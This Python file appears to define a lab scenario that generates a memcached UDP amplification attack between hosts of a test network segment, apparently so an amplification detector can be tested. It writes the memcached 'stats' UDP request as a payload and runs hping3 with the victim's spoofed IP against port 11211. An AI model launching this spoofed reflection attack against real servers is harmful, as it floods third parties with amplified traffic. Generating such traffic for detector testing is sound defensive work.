"""memcached amplification between hosts of one segment."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

QUESTION = bytes.fromhex("0001 0000 0001 0000") + b"stats\r\n"  # memcached's doc/protocol.txt: UDP protocol


def run(net: Range) -> None:
    attacker, victim = net.inside("attacker"), net.inside("pc3")
    cache = net.inside("cache")
    servers.cache(cache)
    net.everyday()
    question = attacker.folder / "question"
    question.write_bytes(QUESTION)
    with net.attack(
        "amplification",
        by=attacker,
        victims=[victim],
        attacker_known=False,
        others={"reflector": [cache], "claimed": [victim]},
        also=["ip-spoofing", "udp-flood"],
        frames=f"udp and dst host {cache.ip} and dst port 11211",
        responses=f"host {victim.ip} and host {cache.ip}",
    ):
        words = f"hping3 -q -2 --spoof {victim.ip} -s 80 -k -p 11211 -d {len(QUESTION)} -E {question}"
        words += " -i u10000 -c 300"
        net.tool(attacker, *words.split(), cache.ip)
    net.quiet(2)


SCENARIO = Scenario(
    name="amplification-memcached",
    about="hping3 asks a memcached server for its statistics 100 times a second, in a neighbour's name.",
    detectors=("amplification",),
    tools={"hping3": "hping3", "memcached": "memcached"},
    run=run,
)
